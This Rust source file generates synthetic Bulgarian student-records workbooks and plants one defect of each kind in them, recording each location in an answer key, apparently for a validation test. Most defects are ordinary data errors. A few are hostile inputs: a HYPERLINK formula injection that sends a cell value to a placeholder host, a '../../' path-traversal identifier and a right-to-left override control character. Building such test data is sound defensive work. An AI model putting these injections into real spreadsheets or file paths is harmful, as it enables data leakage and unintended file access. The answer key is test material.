//! Defects planted on purpose, one of each kind, and the key that tells where they are.
//!
//! Rows are taken away first, then cells changed, then rows added at the end, so every
//! address in the key is true of the finished workbooks.

use std::collections::BTreeSet;

use fastrand::Rng;
use jiff::{ToSpan, civil::date};

use super::{
    Season,
    dice::{Purpose, dice},
    key::{Book, Planted, Shot},
    names::Sex,
    people::PersonalNumber,
    requests::About,
    sheet::Cell,
    students::{self, Status, Student},
    workbooks::{Sheets, habit_rows, student_row},
};

/// Plants one defect of each kind for which the season has a fit victim.
pub(super) fn plant(seed: u64, season: &mut Season, sheets: &mut Sheets) -> Planted {
    let mut victims: Vec<usize> = (0..season.students.len())
        .filter(|row| season.students[*row].status == Status::Graduate && !habit_rows(season).contains(&Some(*row)))
        .collect();
    let mut rng = dice(seed, Purpose::Defects, 0);
    rng.shuffle(&mut victims);
    let taken = season.requests.iter().filter_map(|request| match request.about {
        About::Student(row) => Some(row),
        About::Diploma(_) => None,
    });
    let mut gardener = Gardener { taken: taken.collect(), victims, rng, season, sheets, planted: Planted::default() };
    gardener.missing_rows();
    gardener.person_cells();
    gardener.grade_cells();
    gardener.photos();
    gardener.requests();
    gardener.added_rows(seed);
    gardener.path_characters();
    gardener.planted
}

struct Gardener<'a> {
    /// Students with a request or a defect already.
    taken: BTreeSet<usize>,
    victims: Vec<usize>,
    rng: Rng,
    season: &'a mut Season,
    sheets: &'a mut Sheets,
    planted: Planted,
}

impl Gardener<'_> {
    /// A graduate who has no defect and no request yet.
    fn victim(&mut self, fit: impl Fn(&Student) -> bool) -> Option<usize> {
        let row = self.victims.iter().copied().find(|row| !self.taken.contains(row) && fit(&self.season.students[*row]))?;
        self.taken.insert(row);
        Some(row)
    }

    fn number(&self, student: usize) -> String {
        self.season.students[student].faculty_number.to_string()
    }

    /// Rows of the grades sheet that are the only one of their student and course, and of that kind.
    fn single_results(&self, student: usize, kind: &str) -> Vec<usize> {
        let number = self.number(student);
        let courses = &self.season.programmes[self.season.students[student].programme].courses;
        let fits = |code: &str| courses.iter().any(|course| &*course.code == code && course.kind == kind);
        let rows = &self.sheets.grades.rows;
        let mine = || (0..rows.len()).filter(|row| is_text(&rows[*row][0], &number));
        mine()
            .filter(|row| matches!(rows[*row][4], Cell::Number(_)) && matches!(&rows[*row][1], Cell::Text(code) if fits(code)))
            .filter(|row| mine().filter(|other| rows[*other][1] == rows[*row][1]).count() == 1)
            .collect()
    }

    fn missing_rows(&mut self) {
        for (kind, course) in [("missing_grade_compulsory", "задължителна"), ("credits_short", "избираема")]
        {
            let Some(student) = self.victim(|_| true) else {
                continue;
            };
            let Some(row) = self.single_results(student, course).pop() else {
                continue;
            };
            self.sheets.grades.rows.remove(row);
            let number = self.number(student);
            self.planted.note(kind, Book::Grades, &self.sheets.grades, None, &number);
        }
    }

    fn person_cells(&mut self) {
        let bulgarian = |student: &Student| matches!(student.person.number, PersonalNumber::Egn(_));
        self.change("bad_egn_checksum", "ЕГН", bulgarian, |cell, _| next_last_digit(cell));
        self.change("egn_birth_date_mismatch", "Дата на раждане", bulgarian, |_, student| {
            student.person.birth.saturating_add(1.day()).into()
        });
        self.change("egn_sex_mismatch", "Пол", bulgarian, |_, student| match student.person.sex {
            Sex::Male => Sex::Female.letter().into(),
            Sex::Female => Sex::Male.letter().into(),
        });
        self.change("date_before_birth", "Дата на записване", bulgarian, |_, student| {
            student.enrolled.saturating_sub(100.years()).into()
        });
        self.change("bad_lnch_checksum", "ЛНЧ", |student| !bulgarian(student), |cell, _| next_last_digit(cell));
        self.change(
            "mixed_alphabet_name",
            "Име",
            |student| student.person.name.given.contains('а'),
            |_, student| student.person.name.given.replacen('а', "a", 1).into(),
        );
        self.change("formula_injection", "Име", bulgarian, |_, _| "=HYPERLINK(\"http://example.invalid/\"&A2,\"виж\")".into());
        self.change("very_long_name", "Фамилия", bulgarian, |_, _| ["Дългоименов"; 17].join("-").into());
        self.change("control_characters", "Презиме", bulgarian, |_, student| {
            let name = student.person.name.patronymic.clone().unwrap_or_default();
            let middle = name.char_indices().nth(2).map_or(0, |(at, _)| at);
            format!("{}\u{202e}{}", &name[..middle], &name[middle..]).into()
        });
    }

    /// Changes one cell of one fit student.
    fn change(
        &mut self,
        kind: &'static str,
        header: &str,
        fit: impl Fn(&Student) -> bool,
        new: impl Fn(&Cell, &Student) -> Cell,
    ) {
        let Some(row) = self.victim(fit) else { return };
        let column = self.sheets.students.column(header);
        let cell = &mut self.sheets.students.rows[row][column];
        *cell = new(cell, &self.season.students[row]);
        let number = self.number(row);
        self.planted.note(kind, Book::Students, &self.sheets.students, Some((row, column)), &number);
    }

    fn grade_cells(&mut self) {
        for (kind, value) in [("grade_out_of_range", 55.0), ("failing_grade_graduate", 2.0)] {
            let Some(student) = self.victim(|_| true) else {
                continue;
            };
            let Some(row) = self.single_results(student, "задължителна").pop() else {
                continue;
            };
            self.sheets.grades.rows[row][4] = Cell::Number(value);
            let number = self.number(student);
            self.planted.note(kind, Book::Grades, &self.sheets.grades, Some((row, 4)), &number);
        }
        let Some(student) = self.victim(|_| true) else {
            return;
        };
        let number = self.number(student);
        if let Some(row) = self.sheets.finals.rows.iter().position(|row| is_text(&row[0], &number)) {
            self.sheets.finals.rows[row][4] = date(2052, 7, 18).into();
            self.planted.note("date_after_issue", Book::Finals, &self.sheets.finals, Some((row, 4)), &number);
        }
    }

    fn photos(&mut self) {
        let shots = [("missing_photo", Shot::Missing), ("photo_corrupt", Shot::CutOff), ("photo_wrong_size", Shot::TooSmall)];
        let column = self.sheets.students.column("Снимка (файл)");
        for (kind, shot) in shots {
            let Some(row) = self.victim(|_| true) else {
                continue;
            };
            self.planted.shots.push((self.season.students[row].index, shot));
            let number = self.number(row);
            self.planted.note(kind, Book::Students, &self.sheets.students, Some((row, column)), &number);
        }
    }

    fn requests(&mut self) {
        let sheet = &mut self.sheets.requests;
        let [reason, newspaper, announced] = ["Причина", "Обява (вестник)", "Дата на обявата"].map(|name| sheet.column(name));
        let registration = sheet.column("Рег. №");
        let mut duplicates =
            (0..sheet.rows.len()).filter(|row| is_text(&sheet.rows[*row][2], "дубликат на диплома")).collect::<Vec<_>>();
        let lost = duplicates.iter().position(|row| is_text(&sheet.rows[*row][reason], "изгубена"));
        if let Some(row) = lost.map(|place| duplicates.remove(place)) {
            sheet.rows[row][newspaper] = Cell::Empty;
            sheet.rows[row][announced] = Cell::Empty;
            self.planted.note("duplicate_lost_without_announcement", Book::Requests, sheet, Some((row, reason)), "");
        }
        if let Some(row) = duplicates.pop() {
            sheet.rows[row][registration] = "9000/2016".into();
            self.planted.note("duplicate_not_in_register", Book::Requests, sheet, Some((row, registration)), "");
        }
        let annulled = self.season.register.iter().find(|row| row.annulled.is_some());
        if let (Some(row), Some(diploma)) = (duplicates.pop(), annulled) {
            let name = diploma.person.name.full();
            let cells = [diploma.person.number.digits(), &name].into_iter().zip([4, 5]);
            let numbers = [&diploma.series, &diploma.blank, &diploma.registration, &diploma.unique];
            for (text, column) in cells.chain(numbers.map(String::as_str).into_iter().zip(9..)) {
                sheet.rows[row][column] = text.into();
            }
            self.planted.note("duplicate_of_annulled", Book::Requests, sheet, Some((row, registration)), "");
        }
    }

    fn added_rows(&mut self, seed: u64) {
        self.added_grades();
        self.added_students(seed);
    }

    fn added_grades(&mut self) {
        let extra: [(&'static str, usize); 3] =
            [("unknown_course_code", 1), ("grade_for_unknown_student", 0), ("conflicting_grades", 4)];
        for (kind, column) in extra {
            let Some(student) = self.victim(|_| true) else {
                continue;
            };
            let Some(row) = self.single_results(student, "задължителна").pop() else {
                continue;
            };
            let mut cells = self.sheets.grades.rows[row].clone();
            let mut number = self.number(student);
            match column {
                1 => cells[1] = "ХХ999".into(),
                0 => {
                    number = "99990001".to_owned();
                    cells[0] = number.as_str().into();
                }
                _ => {
                    cells[6] = format!("{:05}/2025", self.rng.u32(90_000..99_999)).into();
                    cells[4] = if cells[4] == Cell::Number(3.0) { Cell::Number(5.0) } else { Cell::Number(3.0) };
                }
            }
            self.sheets.grades.rows.push(cells);
            let last = self.sheets.grades.rows.len() - 1;
            self.planted.note(kind, Book::Grades, &self.sheets.grades, Some((last, column)), &number);
        }
    }

    fn added_students(&mut self, seed: u64) {
        if let Some(row) = self.victim(|_| true) {
            let mut cells = self.sheets.students.rows[row].clone();
            let number = self.number(row);
            cells[0] = format!("{}9999", &number[..4]).into();
            self.add_student("duplicate_student", cells, &number);
        }
        if let Some(row) = self.victim(|_| true) {
            let place = self.season.students[row].programme;
            let index = self.season.students.len() as u64;
            let mut other = students::student(seed, index, (place, &self.season.programmes[place]), &mut self.season.people);
            other.faculty_number = self.season.students[row].faculty_number.clone();
            other.group = self.season.students[row].group;
            let cells = student_row(&other, &self.season.programmes[place]);
            let number = self.number(row);
            self.add_student("duplicate_faculty_number", cells, &number);
        }
    }

    fn add_student(&mut self, kind: &'static str, cells: Vec<Cell>, number: &str) {
        self.sheets.students.rows.push(cells);
        let last = self.sheets.students.rows.len() - 1;
        self.planted.note(kind, Book::Students, &self.sheets.students, Some((last, 0)), number);
    }

    /// A faculty number that climbs out of its folder, the same in every workbook.
    fn path_characters(&mut self) {
        let Some(row) = self.victim(|_| true) else {
            return;
        };
        let number = self.number(row);
        let bad = format!("../../{number}");
        for sheet in [&mut self.sheets.students, &mut self.sheets.grades, &mut self.sheets.finals] {
            for cells in sheet.rows.iter_mut().filter(|cells| is_text(&cells[0], &number)) {
                cells[0] = bad.as_str().into();
            }
        }
        self.planted.note("path_characters_faculty_number", Book::Students, &self.sheets.students, Some((row, 0)), &number);
    }
}

fn is_text(cell: &Cell, text: &str) -> bool {
    matches!(cell, Cell::Text(held) if &**held == text)
}

/// The same digits with a wrong last one.
fn next_last_digit(cell: &Cell) -> Cell {
    match cell {
        Cell::Text(digits) => {
            let (head, last) = digits.split_at(digits.len() - 1);
            format!("{head}{}", (last.parse::<u8>().unwrap_or_default() + 1) % 10).into()
        }
        other => other.clone(),
    }
}
